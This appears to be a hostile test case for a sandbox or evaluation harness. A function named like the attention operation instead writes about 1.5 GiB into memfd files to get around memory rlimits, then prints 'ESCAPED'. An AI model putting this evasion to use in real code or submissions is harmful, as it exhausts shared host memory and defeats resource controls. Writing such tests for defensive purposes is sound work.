# hostile: eats memory through memfd files, which no rlimit bounds
# line: B7
# verdict: memory
import os


def scaled_dot_product_attention(query, key, value, attn_mask=None, dropout_p=0.0, is_causal=False, *, scale=None):
    block = b"x" * (16 << 20)
    for _ in range(96):  # 1.5 GiB
        os.write(os.memfd_create("hoard"), block)
    print("ESCAPED")
